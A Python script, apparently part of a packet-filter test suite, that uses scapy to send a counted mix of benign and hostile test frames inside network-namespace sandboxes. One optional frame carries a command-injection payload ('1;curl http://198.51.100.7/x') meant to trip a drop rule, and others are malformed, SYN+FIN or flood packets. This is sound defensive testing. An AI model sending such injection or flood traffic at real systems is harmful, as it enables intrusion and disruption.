#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Send a known mix of benign and hostile frames out of one interface.

Meant for the project's own namespace sandboxes: run it inside the sender's
namespace (ip netns exec NS ...). Every frame is built with scapy and written
with one raw socket; nothing is routed, so it goes only where the veth goes.
The count of each kind is printed as JSON so a test can compare it with what
the fast path counted.
"""
import argparse
import errno
import json
import sys
import time

try:
    from scapy.all import DNS, DNSQR, ICMP, IP, TCP, UDP, Ether, Raw, raw
    import hyperion_frames
except ImportError:
    sys.exit("hyperion-traffic: needs scapy (apt-get install python3-scapy; run with /usr/bin/python3)")


def frames(args):
    """(kind, frame) pairs, made as they are sent; kind names the expected verdict."""
    eth = Ether(src=args.src_mac, dst=args.dst_mac)
    me, dut = args.src_ip, args.dst_ip

    for n in range(args.round_offset, args.round_offset + args.count):
        i = n % args.flows if args.flows else n
        def sp(base):   # a source port per round, wrapping inside 1024..65535
            return base + i if base + i < 65536 else 1024 + (base + i) % 64512
        out = []
        out.append(("benign_udp", eth / IP(src=me, dst=dut) / UDP(sport=sp(40000), dport=9) / Raw(b"x" * 18)))
        out.append(("benign_tcp", eth / IP(src=me, dst=dut) / TCP(sport=sp(41000), dport=80, flags="S")))
        out.append(("blocklisted", eth / IP(src=args.blocked_ip, dst=dut) / UDP(sport=5353, dport=9) / Raw(b"y" * 18)))
        out.append(("dns_query", eth / IP(src=me, dst=dut) / UDP(sport=sp(42000), dport=53) /
                    DNS(rd=1, qd=DNSQR(qname="www.example.com"))))
        out.append(("dns_evil", eth / IP(src=me, dst=dut) / UDP(sport=sp(43000), dport=53) /
                    DNS(rd=1, qd=DNSQR(qname="WWW.Evil.COM."))))
        out.append(("payload_alert", eth / IP(src=me, dst=dut) / UDP(sport=sp(46000), dport=args.payload_port) /
                    Raw(b"hello EVILBYTES world")))
        out.append(("payload_benign", eth / IP(src=me, dst=dut) / UDP(sport=sp(47000), dport=args.payload_port) /
                    Raw(b"hello ordinary world")))
        bad = raw(eth / IP(src=me, dst=dut) / UDP(sport=1, dport=9) / Raw(b"z" * 18))
        bad = bad[:14] + bytes([0x44]) + bad[15:]      # IHL 4
        out.append(("malformed_ihl", bad))
        out.append(("malformed_synfin", eth / IP(src=me, dst=dut) / TCP(sport=sp(44000), dport=80, flags="SF")))
        if args.flow_drop:
            # one 5-tuple for every round: the first packet is dropped by
            # inspection, the rest by the flow's cached verdict
            out.append(("flow_drop", eth / IP(src=me, dst=dut) / UDP(sport=46999, dport=args.payload_port) /
                        Raw(b"hello KILLFLOW world")))
        if args.dns_garbage:
            # port 53 but not DNS: passed, counted as a DNS parse error
            out.append(("dns_garbage", eth / IP(src=me, dst=dut) / UDP(sport=sp(42500), dport=53) /
                        Raw(b"\xc0")))
        if args.extra:
            # for the example policy: an HTTP request carrying a shell
            # download (rule 300 drops it) and a tracker lookup (rule 100 alerts)
            out.append(("http_attack", eth / IP(src=me, dst=dut) /
                        TCP(sport=sp(48000), dport=80, flags="PA", seq=1000, ack=1) /
                        Raw(b"GET /?q=1;curl http://198.51.100.7/x HTTP/1.1\r\nHost: a\r\n\r\n")))
            out.append(("dns_tracker", eth / IP(src=me, dst=dut) / UDP(sport=sp(49000), dport=53) /
                        DNS(rd=1, qd=DNSQR(qname="cdn.tracker.example.net"))))
        yield from out
    for i in range(args.flood):
        yield ("flood", eth / IP(src=args.flood_ip, dst=dut) / UDP(sport=45000, dport=9) / Raw(b"f" * 18))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    hyperion_frames.add_args(ap)
    ap.add_argument("--blocked-ip", default="198.51.100.42")
    ap.add_argument("--flood-ip", default="198.18.0.9")
    ap.add_argument("--payload-port", type=int, default=5000, help="UDP port of the payload samples")
    ap.add_argument("--count", type=int, default=5, help="rounds of the mix")
    ap.add_argument("--flood", type=int, default=0, help="back-to-back frames from --flood-ip")
    ap.add_argument("--rate", type=float, default=0, help="frames per second (0: as fast as it can)")
    ap.add_argument("--only", action="append", metavar="KIND",
                    help="send only frames of this kind (again for more kinds)")
    ap.add_argument("--flow-drop", action="store_true",
                    help="add a payload with a drop signature, on the same 5-tuple every round")
    ap.add_argument("--dns-garbage", action="store_true",
                    help="add a 1-byte datagram to port 53 each round")
    ap.add_argument("--round-offset", type=int, default=0,
                    help="start the per-round source ports this many rounds on (fresh flows)")
    ap.add_argument("--flows", type=int, default=0,
                    help="reuse the source ports of the first FLOWS rounds (a fixed flow set)")
    ap.add_argument("--extra", action="store_true",
                    help="add an HTTP shell-download request and a tracker DNS lookup")
    args = ap.parse_args()
    hyperion_frames.check_args(ap, args)
    sent = {}
    mix = ((k, f if isinstance(f, bytes) else raw(f)) for k, f in frames(args)
           if not args.only or k in args.only)
    if args.pcap_out:
        mix = list(mix)
        hyperion_frames.write_pcap(args, [f for _, f in mix])
    s = hyperion_frames.raw_socket(args)
    gap = 1.0 / args.rate if args.rate else 0
    start = time.monotonic()
    for i, (kind, f) in enumerate(mix):
        if gap:     # paced: the i-th frame leaves at start + i * gap
            delay = start + i * gap - time.monotonic()
            if delay > 0:
                time.sleep(delay)
        if s:
            # a device queue full of someone else's flood, or a peer whose
            # link is down: wait for room (5 s at most); a frame is counted
            # only once the kernel took it
            deadline = time.monotonic() + 5
            while True:
                try:
                    s.send(f)
                    break
                except OSError as e:
                    if e.errno not in (errno.ENOBUFS, errno.ENETDOWN) or \
                            time.monotonic() > deadline:
                        raise
                    time.sleep(0.001)
        sent[kind] = sent.get(kind, 0) + 1
    if s:
        s.close()
    print(json.dumps(sent, sort_keys=True))


if __name__ == "__main__":
    main()
